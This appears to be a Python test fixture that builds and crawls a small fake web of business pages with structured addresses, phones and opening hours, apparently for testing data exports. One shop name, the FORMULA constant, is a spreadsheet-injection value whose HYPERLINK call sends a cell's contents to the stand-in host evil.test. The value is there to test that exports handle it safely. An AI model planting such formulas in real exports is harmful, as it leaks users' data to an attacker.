"""A hand-made web of organisations with phones and hours, for the tests of exports."""

import json
from pathlib import Path

from tests.support.crawling import crawl, job

from toponaut.job import Job

JOE = ("123 Main Street", "Springfield", "IL", "62701", "US")
TOWER = ("400 Broad Street", "Seattle", "WA", "98109", "US")
LISBON = ("Rua Augusta 100", "Lisboa", "", "1100-053", "PT")
DENVER = ("200 East Colfax Avenue", "Denver", "CO", "80203", "US")
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Best, \'diner\'")'


def shop(
    name: str,
    address: tuple[str, str, str, str, str],
    phone: str = "",
    hours: str = "",
    spot: tuple[float, float] | None = None,
    kind: str = "Restaurant",
) -> str:
    """A page with an organisation at an address in its markup."""
    street, city, region, postcode, country = address
    item: dict[str, object] = {"@context": "https://schema.org", "@type": kind, "name": name}
    item["address"] = {
        "@type": "PostalAddress", "streetAddress": street, "addressLocality": city,
        "addressRegion": region,
        "postalCode": postcode, "addressCountry": country,
    }  # fmt: skip
    if phone:
        item["telephone"] = phone
    if hours:
        item["openingHours"] = hours
    if spot:
        item["geo"] = {"@type": "GeoCoordinates", "latitude": spot[0], "longitude": spot[1]}
    data = json.dumps(item).replace("<", "\\u003c")
    script = f'<script type="application/ld+json">{data}</script>'
    head = f"<title>A page</title>{script}"
    return f'<html lang="en"><head>{head}</head><body><p>Welcome</p></body></html>'


PAGES = {
    "/joe": shop("Joe's Diner", JOE, "(217) 555-0100", "Mo-Fr 09:00-17:00", (39.8012, -89.6501)),
    "/joe/menu": '<title>Menu</title><p>What we cook today is soup, and tomorrow something '
                 'else.</p><address>123 Main St., Springfield, IL 62701</address>',
    "/guide": shop("JOES DINER", JOE, "+1 217 555 0199"),
    "/tower/books": shop("Alpha Books", TOWER, kind="BookStore"),
    "/tower/tours": shop("Beta Tours", TOWER, kind="TravelAgency"),
    "/tower": "<title>Tower</title><p>Rooms to let</p><address>400 Broad Street, Seattle, WA "
              "98109</address>",
    "/lisbon": shop("Pizzaria Napoli", LISBON, spot=(38.7107, -9.1372)),
    "/denver": shop(FORMULA, DENVER, "+13035550100"),
    "/words": "<title>Words</title><p>Nothing but words on this page.</p>",
}  # fmt: skip
HOST = "http://shops.test"
SAVED = "2025-03-04T05:06:07Z"  # the date of all pages
WANTED: Job = job([f"{HOST}/"])  # its targets include Springfield, Seattle and Denver, not Lisbon


def write_web(folder: Path, pages: dict[str, str]) -> Path:
    """The pages as a folder that a crawl can replay, with a front page that links to all."""
    folder.mkdir(parents=True)
    links = "".join(f'<a href="{path}">page {number}</a> ' for number, path in enumerate(pages))
    everything = {"/": f"<title>Front</title>{links}", **pages}
    lines = []
    for number, (path, html) in enumerate(everything.items()):
        (folder / f"{number}.html").write_text(html, encoding="utf-8")
        lines.append(f"{HOST}{path}\t{number}.html\ttext/html\t{SAVED}\n")
    (folder / "manifest.tsv").write_text("".join(lines), encoding="utf-8")
    return folder


def crawl_shops(root: Path, pages: dict[str, str] | None = None) -> Path:
    """A crawl of the pages."""
    web = write_web(root / "web", PAGES if pages is None else pages)
    crawl(root / "shops", WANTED, replay=web)
    return root / "shops"
